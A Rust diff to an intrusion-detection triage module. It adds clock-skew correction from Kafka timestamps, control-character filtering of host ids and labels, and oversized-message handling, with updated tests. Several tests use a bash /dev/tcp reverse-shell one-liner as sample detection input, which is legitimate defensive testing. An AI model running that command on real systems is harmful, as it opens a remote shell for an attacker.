@@ -17,6 +17,10 @@ use crate::metrics::{level_label, Malformed, Metrics, ReasonLabel};
 /// Labels kept per event, and their length: the agent sends a handful; more is a lie.
 const MAX_LABELS: usize = 32;
 const MAX_LABEL_BYTES: usize = 256;
+/// An event time further than this from the time Kafka took the message is a wrong
+/// clock (a VM without NTP, a reset RTC): the message's time is used instead. Wide
+/// enough for a spool that held events through a long broker outage.
+const CLOCK_TOLERANCE_SECS: u64 = 7 * 86_400;
 
 pub struct Triage {
     detector: Detector,
@@ -66,9 +70,16 @@ impl Triage {
         &self.detector
     }
 
-    /// Checks one message; appends what it raised to `hits`. A malformed message is
-    /// counted by reason and skipped: it never stops the consumer.
-    pub fn message(&mut self, payload: Option<&[u8]>, position: Position, hits: &mut Vec<Hit>) {
+    /// Checks one message; appends what it raised to `hits`. `kafka_time` is when Kafka
+    /// took it (the message timestamp). A malformed message is counted by reason and
+    /// skipped: it never stops the consumer.
+    pub fn message(
+        &mut self,
+        payload: Option<&[u8]>,
+        kafka_time: Option<Timestamp>,
+        position: Position,
+        hits: &mut Vec<Hit>,
+    ) {
         self.metrics.events.inc();
         let payload = match payload {
             None | Some([]) => return self.malformed(Malformed::empty),
@@ -81,23 +92,30 @@ impl Triage {
             Ok(v @ Value::Object(_)) => v,
             _ => return self.malformed(Malformed::not_json),
         };
-        let Some(origin) = origin(&event) else {
+        let Some(mut origin) = origin(&event) else {
             return self.malformed(Malformed::no_host);
         };
+        if let Some(kafka) = kafka_time {
+            let skew = origin.event_time.unix_nanos().abs_diff(kafka.unix_nanos());
+            if skew > CLOCK_TOLERANCE_SECS * 1_000_000_000 {
+                self.metrics.clock_skewed.inc();
+                origin.event_time = kafka;
+            }
+        }
         let started = Instant::now();
         self.matches.clear();
         self.detector.detect(&event, &mut self.matches);
         let spent = started.elapsed();
         self.metrics
-            .detect_micros
-            .inc_by(u64::try_from(spent.as_micros()).unwrap_or(u64::MAX));
+            .detect_nanos
+            .inc_by(u64::try_from(spent.as_nanos()).unwrap_or(u64::MAX));
         if self.matches.is_empty() {
             return;
         }
         let command_line = event
             .pointer("/process/command_line")
             .and_then(Value::as_str);
-        let raw = String::from_utf8_lossy(payload);
+        let raw: Arc<str> = String::from_utf8_lossy(payload).into();
         for m in self.matches.drain(..) {
             let rule = &m.rule;
             if self
@@ -123,10 +141,16 @@ impl Triage {
                 window_start: window_start(origin.event_time, self.window_secs),
                 event_time: origin.event_time,
                 count: m.count,
-                event: raw.clone().into_owned(),
+                event: raw.clone(),
                 position: position.clone(),
             });
         }
+    }
+
+    /// A message over `max_event_bytes`, left unread by the consumer.
+    pub fn oversized(&self) {
+        self.metrics.events.inc();
+        self.malformed(Malformed::too_large);
     }
 
     fn malformed(&self, reason: Malformed) {
@@ -137,16 +161,23 @@ impl Triage {
     }
 }
 
-/// Who the event is about. None without a `host.id` string: an alert must name a host.
+/// Text fit to name a host or a label: bounded, and without control characters (a NUL
+/// is refused by PostgreSQL and would stall the batch; a newline forges log lines).
+fn clean(text: &str) -> bool {
+    text.len() <= MAX_LABEL_BYTES && !text.chars().any(char::is_control)
+}
+
+/// Who the event is about. None without a usable `host.id` string: an alert must name
+/// a host.
 fn origin(event: &Value) -> Option<Origin> {
     let host_id = event.pointer("/host/id")?.as_str()?;
-    if host_id.is_empty() || host_id.len() > MAX_LABEL_BYTES {
+    if host_id.is_empty() || !clean(host_id) {
         return None;
     }
     let hostname = event
         .pointer("/host/hostname")
         .and_then(Value::as_str)
-        .filter(|h| h.len() <= MAX_LABEL_BYTES)
+        .filter(|h| clean(h))
         .unwrap_or_default();
     let labels = event
         .get("labels")
@@ -154,7 +185,7 @@ fn origin(event: &Value) -> Option<Origin> {
         .map(|m| {
             m.iter()
                 .filter_map(|(k, v)| Some((k, v.as_str()?)))
-                .filter(|(k, v)| k.len() <= MAX_LABEL_BYTES && v.len() <= MAX_LABEL_BYTES)
+                .filter(|(k, v)| !k.is_empty() && clean(k) && clean(v))
                 .take(MAX_LABELS)
                 .map(|(k, v)| (k.clone(), v.to_owned()))
                 .collect()
@@ -220,7 +251,7 @@ mod tests {
         let mut t = triage();
         let mut hits = Vec::new();
         let ev = exec("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/usr/bin/bash");
-        t.message(Some(&ev), at(1), &mut hits);
+        t.message(Some(&ev), None, at(1), &mut hits);
         assert!(!hits.is_empty(), "no hit");
         let h = &hits[0];
         assert_eq!(h.level, hids_types::alert::Level::Critical);
@@ -242,12 +273,20 @@ mod tests {
     fn malformed_messages_are_counted_by_reason_and_skipped() {
         let mut t = triage();
         let mut hits = Vec::new();
-        t.message(Some(b"not json"), at(1), &mut hits);
-        t.message(Some(b"[1,2]"), at(2), &mut hits);
-        t.message(Some(br#"{"host":{"id":7}}"#), at(3), &mut hits);
-        t.message(None, at(4), &mut hits);
+        t.message(Some(b"not json"), None, at(1), &mut hits);
+        t.message(Some(b"[1,2]"), None, at(2), &mut hits);
+        t.message(Some(br#"{"host":{"id":7}}"#), None, at(3), &mut hits);
+        t.message(None, None, at(4), &mut hits);
         let huge = vec![b'x'; 65 * 1024];
-        t.message(Some(&huge), at(5), &mut hits);
+        t.message(Some(&huge), None, at(5), &mut hits);
+        // A NUL or newline in the host id: refused before it reaches a store.
+        t.message(
+            Some(br#"{"host":{"id":"h\u0000x"}}"#),
+            None,
+            at(6),
+            &mut hits,
+        );
+        t.message(Some(br#"{"host":{"id":"h\nx"}}"#), None, at(7), &mut hits);
         assert!(hits.is_empty());
         let count = |reason| {
             t.metrics
@@ -256,10 +295,10 @@ mod tests {
                 .get()
         };
         assert_eq!(count(Malformed::not_json), 2);
-        assert_eq!(count(Malformed::no_host), 1);
+        assert_eq!(count(Malformed::no_host), 3);
         assert_eq!(count(Malformed::empty), 1);
         assert_eq!(count(Malformed::too_large), 1);
-        assert_eq!(t.metrics.events.get(), 5);
+        assert_eq!(t.metrics.events.get(), 7);
     }
 
     #[test]
@@ -267,7 +306,7 @@ mod tests {
         let mut t = triage();
         let mut hits = Vec::new();
         let ev = exec("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/usr/bin/bash");
-        t.message(Some(&ev), at(1), &mut hits);
+        t.message(Some(&ev), None, at(1), &mut hits);
         let rule_id = hits[0].rule_id.clone();
         let raised = hits.len();
         hits.clear();
@@ -276,13 +315,40 @@ mod tests {
             rule_id,
             host_id: Some("h1".into()),
             labels: BTreeMap::new(),
-            command_line: Some("10.0.0.1".into()),
+            command_line: Some("bash -i >& /dev/tcp/10.0.0.1".into()),
             comment: "red team".into(),
             created_at: None,
         }]);
-        t.message(Some(&ev), at(2), &mut hits);
+        t.message(Some(&ev), None, at(2), &mut hits);
         assert_eq!(hits.len(), raised - 1);
         assert_eq!(t.metrics.suppressed.get(), 1);
+    }
+
+    #[test]
+    fn a_wrong_host_clock_is_replaced_by_kafka_time_and_control_characters_leave_labels() {
+        let mut t = triage();
+        let mut hits = Vec::new();
+        let ev = String::from_utf8(exec(
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "/usr/bin/bash",
+        ))
+        .unwrap()
+        .replace("\"weird\":3", "\"bad\\u0000\":\"x\",\"team\":\"a\\nb\"");
+        // The event says 2026-11-30; Kafka took it in 2027.
+        let kafka =
+            Timestamp(std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_830_000_000));
+        t.message(Some(ev.as_bytes()), Some(kafka), at(1), &mut hits);
+        assert_eq!(hits[0].event_time, kafka);
+        assert_eq!(t.metrics.clock_skewed.get(), 1);
+        assert_eq!(
+            hits[0].labels.keys().collect::<Vec<_>>(),
+            ["idc", "project"]
+        );
+        // Within the tolerance the event's own time stands.
+        hits.clear();
+        let near = Timestamp(std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_796_000_000));
+        t.message(Some(ev.as_bytes()), Some(near), at(2), &mut hits);
+        assert_ne!(hits[0].event_time, near);
     }
 
     #[test]
